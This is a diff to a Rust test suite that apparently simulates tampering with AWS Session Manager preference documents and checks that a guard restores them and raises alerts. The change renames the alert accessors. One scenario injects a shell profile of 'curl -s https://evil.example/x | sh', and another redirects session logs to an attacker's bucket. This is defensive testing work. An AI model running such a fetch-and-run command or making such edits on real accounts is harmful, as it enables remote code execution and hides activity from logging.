@@ -98,7 +98,7 @@ async fn pipeline(stage: &mut Stage) -> Scene {
 }
 
 async fn administrator(stage: &mut Stage) -> Scene {
-    let before = stage.sim().told().len();
+    let before = stage.sim().alerts().len();
     at(PAYMENTS, "eu-central-1", |target| {
         let alice = Caller::administrator(&target.account, "alice@example.com");
         let edit = json!({ "runAsEnabled": false, "shellProfile": { "linux": "curl -s https://evil.example/x | sh", "windows": "" } });
@@ -106,7 +106,7 @@ async fn administrator(stage: &mut Stage) -> Scene {
     });
     let scene =
         stage.play("An administrator edits the document", "Run As off, and a shell profile for everybody", 60).await;
-    let told = stage.told_since(before);
+    let told = stage.alerts_since(before);
     scene
         .expect("Run As is back on", right(stage, PAYMENTS, "eu-central-1"))
         .expect("the shell profile is gone", input(stage, PAYMENTS, "eu-central-1", "shellProfile").is_null())
@@ -118,7 +118,7 @@ async fn administrator(stage: &mut Stage) -> Scene {
 }
 
 async fn rollback(stage: &mut Stage) -> Scene {
-    let before = stage.sim().told().len();
+    let before = stage.sim().alerts().len();
     at(PAYMENTS, "eu-central-1", |target| {
         let mallory = Caller::administrator(&target.account, "mallory@example.com");
         let _ = stage.sim().move_default(target, &mallory, 1);
@@ -126,7 +126,7 @@ async fn rollback(stage: &mut Stage) -> Scene {
     let scene = stage
         .play("The default version is rolled back", "no content changes, only an old version is made the default", 60)
         .await;
-    let told = stage.told_since(before);
+    let told = stage.alerts_since(before);
     scene.expect("the right version is the default again", right(stage, PAYMENTS, "eu-central-1")).expect(
         "the alert names who",
         names(&told, "edit_reverted", &["mallory@example.com", "made version 1 the default"]),
@@ -134,14 +134,14 @@ async fn rollback(stage: &mut Stage) -> Scene {
 }
 
 async fn deletion(stage: &mut Stage) -> Scene {
-    let before = stage.sim().told().len();
+    let before = stage.sim().alerts().len();
     at(SEARCH, "us-east-1", |target| {
         let mallory = Caller::administrator(&target.account, "mallory@example.com");
         let _ = stage.sim().delete_document(target, &mallory);
     });
     let scene =
         stage.play("The document is deleted", "Session Manager would fall back to ssm-user, without logging", 60).await;
-    let told = stage.told_since(before);
+    let told = stage.alerts_since(before);
     let logging = input(stage, SEARCH, "us-east-1", "cloudWatchLogGroupName");
     scene
         .expect("it is there again and right", right(stage, SEARCH, "us-east-1"))
@@ -150,7 +150,7 @@ async fn deletion(stage: &mut Stage) -> Scene {
 }
 
 async fn not_ours_to_write(stage: &mut Stage) -> Scene {
-    let before = stage.sim().told().len();
+    let before = stage.sim().alerts().len();
     let version = |stage: &Stage, id: &str| {
         target(id, "eu-west-1").ok().and_then(|t| stage.sim().document(&t)).map(|document| document.latest())
     };
@@ -162,7 +162,7 @@ async fn not_ours_to_write(stage: &mut Stage) -> Scene {
     }
     let edited = (version(stage, PILOT), version(stage, APPLIANCE));
     let scene = stage.play("Edits where we only watch", "one account is in observe mode, one is exempt", 60).await;
-    let told = stage.told_since(before);
+    let told = stage.alerts_since(before);
     scene
         .expect("neither was written", edited == (version(stage, PILOT), version(stage, APPLIANCE)))
         .expect(
@@ -176,7 +176,7 @@ async fn not_ours_to_write(stage: &mut Stage) -> Scene {
 }
 
 async fn not_laundered(stage: &mut Stage) -> Scene {
-    let before = stage.sim().told().len();
+    let before = stage.sim().alerts().len();
     at(SEARCH, "eu-west-1", |target| {
         let mallory = Caller::administrator(&target.account, "mallory@example.com");
         let hostile = json!({ "s3BucketName": "mallorys-bucket", "runAsEnabled": false });
@@ -196,7 +196,7 @@ async fn not_laundered(stage: &mut Stage) -> Scene {
             60,
         )
         .await;
-    let told = stage.told_since(before);
+    let told = stage.alerts_since(before);
     scene
         .expect(
             "what the pipeline changed is kept",
@@ -215,7 +215,7 @@ async fn not_laundered(stage: &mut Stage) -> Scene {
 }
 
 async fn forged(stage: &mut Stage) -> Scene {
-    let before = stage.sim().told().len();
+    let before = stage.sim().alerts().len();
     at(PAYMENTS, "us-east-1", |member| {
         stage.sim().organizations_event(member, "AccountDepartedOrganization", &json!({ "accountId": SEARCH }));
     });
@@ -227,7 +227,7 @@ async fn forged(stage: &mut Stage) -> Scene {
             60,
         )
         .await;
-    let told = stage.told_since(before);
+    let told = stage.alerts_since(before);
     scene
         .expect(
             "the forged departure has no effect and is told",
